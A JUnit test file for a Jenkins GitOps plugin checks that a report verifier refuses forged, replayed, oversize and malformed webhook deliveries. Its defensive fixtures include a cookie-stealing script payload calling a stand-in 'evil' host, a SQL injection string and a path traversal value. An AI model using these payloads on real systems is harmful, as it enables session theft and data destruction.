package io.jenkins.plugins.gitops.report;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.gitops.report.Verdict.Outcome;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Hostile and broken deliveries: each is refused with its status and a one-line reason, none throws. */
class ReportVerifierTest {

    private static final String PROD_SECRET_TEXT = "prod-secret-7f3a9c";
    private static final byte[] PROD_SECRET = PROD_SECRET_TEXT.getBytes(UTF_8);
    private static final byte[] STAGING_SECRET = "staging-secret-41bd".getBytes(UTF_8);
    private static final Map<String, byte[]> SECRETS = Map.of("production", PROD_SECRET, "staging", STAGING_SECRET);

    private final ReportVerifier verifier = new ReportVerifier(name -> Optional.ofNullable(SECRETS.get(name)),
            Clock.fixed(SampleReports.NOW, ZoneOffset.UTC), new ReplayCache(1_000));
    private final List<Verdict> verdicts = new java.util.ArrayList<>();

    /** A request as the endpoint sees it. */
    private record Delivery(Map<String, List<String>> headers, byte[] body) {

        Delivery with(String header, String... values) {
            Map<String, List<String>> copy = new LinkedHashMap<>(headers);
            copy.put(header, List.of(values));
            return new Delivery(copy, body);
        }

        Delivery without(String header) {
            Map<String, List<String>> copy = new LinkedHashMap<>(headers);
            copy.remove(header);
            return new Delivery(copy, body);
        }
    }

    private static Delivery signed(Report report) {
        return signedBody("production", ReportCodec.encode(report), SampleReports.NOW.getEpochSecond(), PROD_SECRET);
    }

    private static Delivery signedBody(String environment, byte[] body, long timestamp, byte[] secret) {
        Map<String, List<String>> headers = new LinkedHashMap<>();
        headers.put(ReportHeaders.ENVIRONMENT, List.of(environment));
        headers.put(ReportHeaders.DELIVERY, List.of(UUID.randomUUID().toString()));
        headers.put(ReportHeaders.TIMESTAMP, List.of(Long.toString(timestamp)));
        headers.put(ReportHeaders.SIGNATURE, List.of(ReportSignature.of(secret, Long.toString(timestamp), body)));
        return new Delivery(headers, body);
    }

    private static Delivery signedText(String body) {
        return signedBody("production", body.getBytes(UTF_8), SampleReports.NOW.getEpochSecond(), PROD_SECRET);
    }

    private Verdict verify(Delivery delivery) {
        Verdict verdict = verifier.verify(delivery.headers(), new ByteArrayInputStream(delivery.body()));
        verdicts.add(verdict);
        return verdict;
    }

    private static String good() {
        return new String(ReportCodec.encode(SampleReports.full("production")), UTF_8);
    }

    @AfterEach
    void reasonsAreOneLineAndNeverHoldASecret() {
        assertThat(verdicts).allSatisfy(verdict -> assertThat(verdict.reason())
                .doesNotContain("\n", "\r", PROD_SECRET_TEXT, new String(STAGING_SECRET, UTF_8)));
    }

    @Test
    void acceptsAWellSignedReportAndHandsItOver() {
        Verdict verdict = verify(signed(SampleReports.full("production")));

        assertThat(verdict.status()).isEqualTo(202);
        assertThat(verdict.report()).isEqualTo(SampleReports.full("production"));
    }

    @Test
    void acceptsHeaderNamesInAnyCase() {
        Delivery delivery = signed(SampleReports.full("production"));
        Map<String, List<String>> lower = new LinkedHashMap<>();
        delivery.headers().forEach((name, values) -> lower.put(name.toLowerCase(java.util.Locale.ROOT), values));

        assertThat(verify(new Delivery(lower, delivery.body())).status()).isEqualTo(202);
    }

    @Test
    void refusesATamperedSignature() {
        Delivery delivery = signed(SampleReports.full("production")).with(ReportHeaders.SIGNATURE, "sha256=" + "ab".repeat(32));

        assertRefused(delivery, 401, "X-GitOps-Signature: does not match the body and timestamp under the secret of environment 'production'");
    }

    @Test
    void refusesABodySignedWithAnotherEnvironmentsSecret() {
        Delivery delivery = signedBody("production", ReportCodec.encode(SampleReports.full("production")),
                SampleReports.NOW.getEpochSecond(), STAGING_SECRET);

        assertRefused(delivery, 401, "X-GitOps-Signature: does not match");
    }

    @Test
    void refusesABodyChangedAfterSigning() {
        Delivery delivery = signed(SampleReports.full("production"));
        byte[] body = new String(delivery.body(), UTF_8).replace("\"phase\":\"OutOfSync\"", "\"phase\":\"Synced\"").getBytes(UTF_8);

        assertRefused(new Delivery(delivery.headers(), body), 401, "X-GitOps-Signature: does not match");
    }

    @Test
    void refusesAMissingSignature() {
        assertRefused(signed(SampleReports.full("production")).without(ReportHeaders.SIGNATURE), 400,
                "X-GitOps-Signature: missing");
    }

    @Test
    void refusesGarbledSignatures() {
        Delivery delivery = signed(SampleReports.full("production"));
        String valid = delivery.headers().get(ReportHeaders.SIGNATURE).get(0);
        for (String garbled : List.of("", "sha1=" + "a".repeat(40), valid.substring(7), "sha256=" + "zz".repeat(32),
                valid + "00", "SHA256=" + valid.substring(7), "sha256=ab\n<script>")) {
            assertRefused(delivery.with(ReportHeaders.SIGNATURE, garbled), 400, "X-GitOps-Signature: expected sha256=<64 hex digits>");
        }
        assertThat(verdicts.get(verdicts.size() - 1).reason()).contains("\\u000a<script>");
    }

    @Test
    void refusesASignatureSentTwice() {
        Delivery delivery = signed(SampleReports.full("production"));
        String valid = delivery.headers().get(ReportHeaders.SIGNATURE).get(0);

        assertRefused(delivery.with(ReportHeaders.SIGNATURE, valid, valid), 400, "X-GitOps-Signature: sent 2 times; expected once");
    }

    @Test
    void refusesAStaleTimestamp() {
        Delivery delivery = signedBody("production", ReportCodec.encode(SampleReports.full("production")),
                SampleReports.NOW.getEpochSecond() - 301, PROD_SECRET);

        assertRefused(delivery, 401, "X-GitOps-Timestamp: " + (SampleReports.NOW.getEpochSecond() - 301)
                + " is 301 s in the past; reports are accepted within ±300 s");
    }

    @Test
    void refusesAFutureTimestamp() {
        Delivery delivery = signedBody("production", ReportCodec.encode(SampleReports.full("production")),
                SampleReports.NOW.getEpochSecond() + 3600, PROD_SECRET);

        assertRefused(delivery, 401, "X-GitOps-Timestamp: " + (SampleReports.NOW.getEpochSecond() + 3600) + " is 3600 s in the future");
    }

    @Test
    void acceptsTimestampsAtTheEdgesOfTheWindow() {
        long earliest = SampleReports.NOW.getEpochSecond() - 300;
        byte[] writtenThen = ReportCodec.encode(writtenAt(SampleReports.full("production"), Instant.ofEpochSecond(earliest)));
        byte[] body = ReportCodec.encode(SampleReports.full("production"));

        assertThat(verify(signedBody("production", writtenThen, earliest, PROD_SECRET)).status()).isEqualTo(202);
        assertThat(verify(signedBody("production", body, SampleReports.NOW.getEpochSecond() + 300, PROD_SECRET)).status()).isEqualTo(202);
    }

    @Test
    void refusesAReportWrittenLaterThanItWasSignedButAcceptsOneSignedAgainLongAfterItWasWritten() {
        long signedAt = SampleReports.NOW.getEpochSecond();
        byte[] ahead = ReportCodec.encode(writtenAt(SampleReports.full("production"), SampleReports.NOW.plusSeconds(61)));
        byte[] withinTheLead = ReportCodec.encode(writtenAt(SampleReports.full("production"), SampleReports.NOW.plusSeconds(60)));
        byte[] retriedADayLater = ReportCodec.encode(writtenAt(SampleReports.full("production"), SampleReports.NOW.minusSeconds(86_400)));

        assertRefused(signedBody("production", ahead, signedAt, PROD_SECRET), 400, "generatedAt: "
                + SampleReports.NOW.plusSeconds(61) + " is after X-GitOps-Timestamp " + signedAt + " by more than 60 s");
        assertThat(verify(signedBody("production", withinTheLead, signedAt, PROD_SECRET)).status()).isEqualTo(202);
        assertThat(verify(signedBody("production", retriedADayLater, signedAt, PROD_SECRET)).status()).isEqualTo(202);
    }

    private static Report writtenAt(Report report, Instant generatedAt) {
        return new Report(report.schema(), report.environment(), report.agent(), report.source(), report.phase(),
                report.health(), report.resources(), report.events(), generatedAt, report.sequence(), report.omitted());
    }

    @Test
    void refusesTimestampsThatAreNotUnixSeconds() {
        Delivery delivery = signed(SampleReports.full("production"));
        for (String bad : List.of("", "abc", "-5", "1.5e9", "2026-03-01T12:00:00Z", "0x6a", "9".repeat(40), "+1772366400")) {
            assertRefused(delivery.with(ReportHeaders.TIMESTAMP, bad), 400, "X-GitOps-Timestamp: expected unix seconds, got '");
        }
        assertRefused(delivery.without(ReportHeaders.TIMESTAMP), 400, "X-GitOps-Timestamp: missing");
    }

    @Test
    void refusesAReplayedDeliveryId() {
        Delivery first = signed(SampleReports.full("production"));
        assertThat(verify(first).status()).isEqualTo(202);

        assertRefused(first, 409, "X-GitOps-Delivery: " + first.headers().get(ReportHeaders.DELIVERY).get(0) + " was already delivered");
        // The id alone decides: another valid body under the same id is a replay too.
        Delivery other = signed(SampleReports.withResources("production", 1))
                .with(ReportHeaders.DELIVERY, first.headers().get(ReportHeaders.DELIVERY).get(0).toUpperCase(java.util.Locale.ROOT));
        assertThat(verify(other).reason()).endsWith("was already delivered");
    }

    @Test
    void refusesACapturedRequestReplayedUnderAFreshDeliveryId() {
        Delivery first = signed(SampleReports.full("production"));
        assertThat(verify(first).status()).isEqualTo(202);

        assertRefused(first.with(ReportHeaders.DELIVERY, UUID.randomUUID().toString()), 409,
                "X-GitOps-Signature: this signed body was already delivered under another delivery id");
    }

    @Test
    void refusesAMissingOrGarbledDeliveryId() {
        Delivery delivery = signed(SampleReports.full("production"));

        assertRefused(delivery.without(ReportHeaders.DELIVERY), 400, "X-GitOps-Delivery: missing");
        assertRefused(delivery.with(ReportHeaders.DELIVERY, "1; DROP TABLE reports"), 400,
                "X-GitOps-Delivery: expected a UUID, got '1; DROP TABLE reports'");
    }

    @Test
    void refusesAnOversizeBodyWithoutReadingPastTheLimit() {
        byte[] big = new byte[ReportLimits.MAX_BODY_BYTES + 1];
        Arrays.fill(big, (byte) ' ');
        assertRefused(signedBody("production", big, SampleReports.NOW.getEpochSecond(), PROD_SECRET), 413,
                "body: more than the limit of 1048576 bytes");

        // A declared length over the limit is refused before a byte of the body is read.
        InputStream untouchable = new InputStream() {
            @Override
            public int read() throws IOException {
                throw new AssertionError("the body was read");
            }
        };
        Delivery declared = signed(SampleReports.full("production")).with("Content-Length", "5000000000");
        Verdict verdict = verifier.verify(declared.headers(), untouchable);
        verdicts.add(verdict);
        assertThat(verdict.status()).isEqualTo(413);
        assertThat(verdict.reason()).isEqualTo("Content-Length: 5000000000: more than the limit of 1048576 bytes");
    }

    @Test
    void refusesATruncatedBody() {
        String good = good();

        assertRefused(signedText(good.substring(0, good.length() / 2)), 400, "body: truncated: Unexpected end-of-input");
    }

    @Test
    void refusesBodiesThatAreNotJson() {
        assertRefused(signedText("<html><body>Hello</body></html>"), 400, "body: not valid JSON: Unexpected character ('<'");
        assertRefused(signedText("schema=1&environment=production"), 400, "body: not valid JSON: Unrecognized token 'schema'");
        assertRefused(signedText(good() + "{}"), 400, "body: not valid JSON: Trailing token");
        byte[] notUtf8 = good().getBytes(UTF_8);
        notUtf8[40] = (byte) 0xC3;
        notUtf8[41] = (byte) 0x28;
        assertRefused(signedBody("production", notUtf8, SampleReports.NOW.getEpochSecond(), PROD_SECRET), 400,
                "body: not valid JSON: Invalid UTF-8");
    }

    @Test
    void refusesAnEmptyBody() {
        assertRefused(signedText(""), 400, "body: empty");
        assertRefused(signedText("  \n "), 400, "body: no JSON value, only whitespace");
    }

    @Test
    void refusesAnotherSchemaVersion() {
        assertRefused(signedText(good().replace("\"schema\":1", "\"schema\":2")), 400, "schema: unsupported version 2 (this reader knows 1)");
    }

    @Test
    void refusesAnUnknownEnvironment() {
        Delivery delivery = signedBody("qa", ReportCodec.encode(SampleReports.full("qa")), SampleReports.NOW.getEpochSecond(),
                "guessed".getBytes(UTF_8));

        assertRefused(delivery, 404, "X-GitOps-Environment: no environment named 'qa' is configured to receive reports");
    }

    @Test
    void refusesAMissingOrMalformedEnvironmentHeader() {
        Delivery delivery = signed(SampleReports.full("production"));

        assertRefused(delivery.without(ReportHeaders.ENVIRONMENT), 400, "X-GitOps-Environment: missing");
        assertRefused(delivery.with(ReportHeaders.ENVIRONMENT, "../production"), 400,
                "X-GitOps-Environment: expected an environment name, got '../production'");
    }

    @Test
    void refusesAnEnvironmentInTheBodyOtherThanTheHeader() {
        // Signed with production's secret, but claiming to be about staging.
        assertRefused(signed(SampleReports.full("staging")), 400,
                "environment: 'staging' in the body, but 'production' in X-GitOps-Environment");
    }

    @Test
    void acceptsTenThousandResourcesWithinTheSizeLimit() {
        Delivery delivery = signed(SampleReports.withResources("production", ReportLimits.MAX_RESOURCES));
        assertThat(delivery.body().length).isLessThan(ReportLimits.MAX_BODY_BYTES);

        Verdict verdict = verify(delivery);

        assertThat(verdict.status()).isEqualTo(202);
        assertThat(verdict.report().resources()).hasSize(10_000);
    }

    @Test
    void refusesOneResourceMoreThanTheLimit() {
        assertRefused(signed(SampleReports.withResources("production", ReportLimits.MAX_RESOURCES + 1)), 400,
                "resources: 10001 entries, more than the limit of 10000");
    }

    @Test
    void refusesDeeplyNestedJson() {
        String deep = "[".repeat(100_000) + "]".repeat(100_000);
        String body = good().replace("\"desired\":3", "\"desired\":" + deep);

        assertRefused(signedText(body), 400,
                "body: exceeds a limit: Document nesting depth (65) exceeds the maximum allowed (64");
    }

    @Test
    void checksVeryLongStringsWithoutRunningOutOfStack() {
        String longPath = "/a".repeat(200_000);
        assertThat(verify(signedText(good().replace("\"path\":\"/spec/replicas\"", "\"path\":\"" + longPath + "\""))).status())
                .isEqualTo(202);
        assertRefused(signedText(good().replace("\"path\":\"/spec/replicas\"", "\"path\":\"" + longPath + "~\"")), 400,
                "resources[0].diffs[0].path: not a JSON pointer: '/a/a/a");
    }

    @Test
    void keepsHtmlAndScriptPayloadsAsData() {
        String payload = "<script>fetch('//evil/'+document.cookie)</script><img src=x onerror=alert(1)>";
        Report hostile = new Report(Report.SCHEMA, "production", new AgentIdentity(payload, payload),
                new SourceState(payload, payload, payload, SampleReports.REVISION, List.of()), SyncPhase.FAILED,
                Health.UNKNOWN,
                List.of(new ResourceEntry(payload, payload, payload, payload, ResourceStatus.FAILED, Health.DEGRADED,
                        List.of(new FieldDiff("/" + payload.replace("/", "~1"), JsonValue.of(payload), JsonValue.of(payload),
                                payload, SampleReports.NOW)), payload)),
                List.of(new ReportEvent(EventType.FAILED, SampleReports.NOW, payload)), SampleReports.NOW, null, Omitted.NONE);

        Verdict verdict = verify(signed(hostile));

        assertThat(verdict.status()).isEqualTo(202);
        assertThat(verdict.report()).isEqualTo(hostile);
        assertThat(ReportCodec.encode(verdict.report())).isEqualTo(ReportCodec.encode(hostile));
    }

    @Test
    void refusesDuplicateKeys() {
        assertRefused(signedText(good().replace("{\"schema\":1,", "{\"schema\":1,\"phase\":\"Synced\",")), 400,
                "body: not valid JSON: Duplicate field 'phase'");
    }

    @Test
    void refusesWrongTypes() {
        assertRefused(signedText(good().replace("\"schema\":1", "\"schema\":true")), 400, "schema: unsupported version true");
        String small = new String(ReportCodec.encode(SampleReports.withResources("production", 1)), UTF_8);
        assertRefused(signedText(small.replace("\"events\":[]", "\"events\":\"none\"")), 400,
                "events: expected an array, got a string");
        assertRefused(signedText(good().replace("\"agent\":{", "\"agent\":[{").replace("},\"source\"", "}],\"source\"")), 400,
                "agent: expected an object, got an array");
        assertRefused(signedText(good().replace("\"status\":\"Pruned\"", "\"status\":\"Foo\"")), 400,
                "resources[3].status: unknown value 'Foo' (expected one of InSync, Drifted, Missing, Pruned, Failed)");
        assertRefused(signedText("\"a string\""), 400, "body: expected an object, got a string");
    }

    @Test
    void answersAFailingSecretStoreWithoutEchoingIt() {
        ReportVerifier broken = new ReportVerifier(name -> {
            throw new IllegalStateException("vault at 10.0.0.1 said token " + PROD_SECRET_TEXT + " expired");
        }, Clock.fixed(SampleReports.NOW, ZoneOffset.UTC), new ReplayCache(10));
        Delivery delivery = signed(SampleReports.full("production"));

        Verdict verdict = broken.verify(delivery.headers(), new ByteArrayInputStream(delivery.body()));
        verdicts.add(verdict);

        assertThat(verdict.status()).isEqualTo(500);
        assertThat(verdict.reason()).isEqualTo("internal error while verifying: IllegalStateException");
    }

    @Test
    void answersAnUnreadableBody() {
        Delivery delivery = signed(SampleReports.full("production"));
        InputStream broken = new InputStream() {
            @Override
            public int read() throws IOException {
                throw new IOException("connection reset");
            }
        };

        Verdict verdict = verifier.verify(delivery.headers(), broken);
        verdicts.add(verdict);

        assertThat(verdict.status()).isEqualTo(400);
        assertThat(verdict.reason()).isEqualTo("body: could not be read: IOException");
    }

    @Test
    void answersBusyRatherThanForgetWhenTheReplayCacheIsFull() {
        ReportVerifier small = new ReportVerifier(name -> Optional.ofNullable(SECRETS.get(name)),
                Clock.fixed(SampleReports.NOW, ZoneOffset.UTC), new ReplayCache(1));
        Delivery first = signed(SampleReports.full("production"));
        Delivery second = signed(SampleReports.withResources("production", 1));

        assertThat(small.verify(first.headers(), new ByteArrayInputStream(first.body())).status()).isEqualTo(202);
        Verdict busy = small.verify(second.headers(), new ByteArrayInputStream(second.body()));
        assertThat(busy.status()).isEqualTo(503);
        assertThat(small.verify(first.headers(), new ByteArrayInputStream(first.body())).status()).isEqualTo(409);
    }

    private void assertRefused(Delivery delivery, int status, String reasonStart) {
        Verdict verdict = verify(delivery);
        assertThat(verdict.status()).as(verdict.reason()).isEqualTo(status);
        assertThat(verdict.accepted()).isFalse();
        assertThat(verdict.report()).isNull();
        assertThat(verdict.reason()).startsWith(reasonStart);
        assertThat(verdict.outcome()).isNotEqualTo(Outcome.ACCEPTED);
    }
}
